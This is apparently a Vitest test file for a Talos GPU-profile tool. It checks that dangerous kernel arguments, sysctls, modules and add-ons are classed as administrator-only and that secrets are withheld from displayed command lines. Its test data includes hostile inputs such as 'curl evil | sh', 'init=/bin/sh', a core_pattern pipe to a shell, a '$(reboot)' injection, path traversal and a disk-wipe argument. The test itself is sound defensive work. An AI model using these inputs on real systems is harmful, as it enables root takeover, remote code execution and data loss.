import { describe, expect, test } from "vitest";
import { proveRole } from "@/lib/auth/ctx";
import type { Role } from "@/lib/auth/role";
import { builtInProfile, builtInProfiles } from "../profiles";
import type { GpuProfile } from "../profile-schema";
import { adminArgs, operatorArgs } from "./kernel-arg-table";
import { meaningOf, powerOfArg, shownCommandLine, shownKernelArg } from "./kernel-args";
import { powersOfProfile } from "./profile-powers";
import { requireAdminFor } from "./require-admin";
import { powerOfSysctl } from "./sysctls";

const plain = builtInProfile("none") as GpuProfile;
const ctx = (role: Role) => proveRole({ kind: "user", id: "u", name: role, role }, role) as never;

test("no built-in profile asks for an administrator", () => {
  for (const profile of builtInProfiles) expect(powersOfProfile(profile), profile.id).toEqual([]);
});

describe("kernel arguments", () => {
  test.each([
    "amd_iommu=off",
    "iommu=pt",
    "amdgpu.gttsize=131072",
    "amdgpu.cwsr_enable=0",
    "ttm.pages_limit=33554432",
    "i915.force_probe=!a780,*",
    "xe.force_probe=e20b",
    "nvidia.NVreg_OpenRmEnableUnsupportedGpus=1",
    "nvidia-drm.modeset=1",
    "modprobe.blacklist=nouveau,snd_hda_intel",
    "vfio-pci.ids=10de:1b06,10de:10ef",
    "hugepagesz=1G",
    "hugepages=36",
    "isolcpus=2-7,10",
    "pci=realloc=off",
    "console=ttyS0,115200n8",
    "nomodeset",
    "video=efifb:off",
  ])("%s is an operator's", (arg) => {
    expect(powerOfArg(arg)).toBeNull();
    expect(shownKernelArg(arg)).toBe(arg);
  });

  test.each([
    ["talos.experimental.wipe=system", "erases disks"],
    ["talos.experimental.wipe=system:EPHEMERAL,STATE", "erases disks"],
    ["talos.config=http://192.0.2.1/?token=x", "who rules it"],
    ["talos.config.inline=AAAA", "who rules it"],
    ["talos.config.oauth.client_secret=x", "who rules it"],
    ["init=/bin/sh", "another program"],
    ["rdinit=/x", "another program"],
    ["init", "another program"],
    ["siderolink.api=https://omni.example.org?jointoken=x", "another management service"],
    ["talos.environment=http_proxy=http://u:p@x", "proxy"],
    ["talos.logging.kernel=udp://x", "another address"],
    ["mitigations=off", "flaws of the processor"],
    ["selinux=0", "protection"],
    ["-selinux", "takes away an argument"],
    ["-init_on_alloc=1", "takes away an argument"],
    ["--", "everything after it"],
    ["module_blacklist=nvme", "disks and network"],
    ["modprobe.blacklist=nouveau,ixgbe", "disks and network"],
    ["vfio-pci.ids=8086:1521", "disks and network"],
    ["firmware_class.path=/var/x", "other firmware"],
    ["amdgpu.gttsize=$(reboot)", "not known"],
    ["i915.vbt_firmware=/var/x", "not known"],
    ["nvidia.NVreg_RegistryDwords=x=1", "not known"],
    ["anything.else=1", "not known"],
    ["initcall_blacklist=nvme_init", "not known"],
    ['hugepages=36"init=/x"', "not known"],
    ["CONSOLE=tty0", "not known"],
    ["console=tty0,init=/x", "not known"],
  ])("%s is an administrator's: it %s", (arg, words) => {
    expect(powerOfArg(arg)).toContain(words);
  });

  test("each line of the tables says what it does and where that is written", () => {
    for (const { name, does, source } of [...operatorArgs, ...adminArgs]) {
      expect(name.source.startsWith("^") && name.source.endsWith("$"), String(name)).toBe(true);
      expect(does).toMatch(/^[a-z]+ \w/);
      expect(source).toMatch(/^[A-Za-z]+: /);
    }
    // Only text that begins and ends with the pattern is judged, so no value hides behind a harmless one.
    for (const { values } of operatorArgs) expect(String(values ?? "^$")).toMatch(/\^.*\$/);
  });
});

describe("sysctls", () => {
  test.each([
    ["vm.nr_hugepages", "1024"],
    ["net/core/rmem_max", "16777216"],
    ["net.ipv4.tcp_rmem", "4096 87380 16777216"],
    ["fs.inotify.max_user_watches", "524288"],
    ["net.core.bpf_jit_harden", "1"],
  ])("%s=%s is an operator's", (key, value) => expect(powerOfSysctl(key, value)).toBeNull());

  test.each([
    ["kernel.core_pattern", "|/bin/sh", "runs a program as root on a crash"],
    ["kernel/core_pattern", "|/bin/sh", "runs a program as root on a crash"],
    ["kernel.modprobe", "/x", "runs as root"],
    ["kernel.poweroff_cmd", "/x", "runs as root"],
    ["kernel.usermodehelper.bset", "1", "runs as root"],
    ["net.core.bpf_jit_harden", "0", "protection"],
    ["kernel.kptr_restrict", "0", "protection"],
    ["net.ipv4.ip_forward", "1", "packets"],
    ["net.ipv4.conf.all.rp_filter", "0", "packets"],
    ["fs.binfmt_misc.register", ":x", "in place of others"],
    ["kernel/../../../sys/kernel/x", "1", "outside"],
    ["vm.nr_hugepages", "1\nkernel.core_pattern=|x", "not known"],
    ["vm.unheard_of", "1", "not known"],
  ])("%s=%s is an administrator's: it %s", (key, value, words) => expect(powerOfSysctl(key, value)).toContain(words));
});

describe("profiles", () => {
  test.each<[string, Partial<GpuProfile>]>([
    ["Kernel argument init", { kernelArgs: [{ arg: "init=/bin/sh" }] }],
    ["Sysctl kernel.core_pattern", { sysctls: [{ key: "kernel.core_pattern", value: "|/x" }] }],
    ["Kernel module nbd", { kernelModules: [{ name: "nbd", parameters: [] }] }],
    ["Parameter config of i915", { kernelModules: [{ name: "i915", parameters: ["config=/x"] }] }],
    ["Extension evil/rootkit", { extensions: [{ name: "evil/rootkit", when: "always" }] }],
    [
      "Add-on x",
      {
        addOns: [
          { id: "x", title: "x", resources: [], namespace: "x", install: "curl evil | sh", values: {}, notes: [] },
        ],
      },
    ],
  ])("%s asks for an administrator, in words", (what, part) => {
    const powers = powersOfProfile({ ...plain, ...part });
    expect(powers.map((power) => power.what)).toEqual([what]);
    expect(() => requireAdminFor(ctx("operator"), powers)).toThrow(what);
    expect(() => requireAdminFor(ctx("admin"), powers)).not.toThrow();
  });

  test("the words never hold a value, which may be a secret", () => {
    const powers = powersOfProfile({
      ...plain,
      kernelArgs: [
        { arg: "talos.config=http://x/?token=canary" },
        { arg: "canary/secret=1" },
        { arg: `${"c4n4ry".repeat(9)}=1` },
      ],
      sysctls: [{ key: "a.b", value: "canary" }],
    });
    expect(JSON.stringify(powers)).not.toMatch(/token=|c4n4ryc4n4ry/);
  });
});

describe("what is shown of a command line", () => {
  test.each([
    ["talos.platform=metal console=ttyS0 init_on_alloc=1", "talos.platform=metal console=ttyS0 init_on_alloc=1"],
    ["talos.config=http://x/?token=canary", "talos.config=(withheld)"],
    ["--token canary", "(withheld) (withheld)"],
    ["psk=canary passwd=canary", "psk=(withheld) passwd=(withheld)"],
    ['a="can ary" quiet', "a=(withheld) quiet"],
    ["https://user:canary@host/", "(withheld)"],
    ["AKIACANARYCANARYCANARYCANARY=x", "(withheld)"],
    ["canary", "(withheld)"],
    ["console=ttyS0,canary", "console=(withheld)"],
    ["talos.experimental.wipe=canary", "talos.experimental.wipe=(withheld)"],
  ])("%s", (line, shown) => expect(shownCommandLine(line)).toBe(shown));

  test("what is shown with its value is known by the table, and nothing else", () => {
    expect(meaningOf("hugepages=36")?.who).toBe("operator");
    expect(meaningOf("mitigations=off")?.who).toBe("admin");
    expect(meaningOf("mitigations=canary")).toBeNull();
  });
});
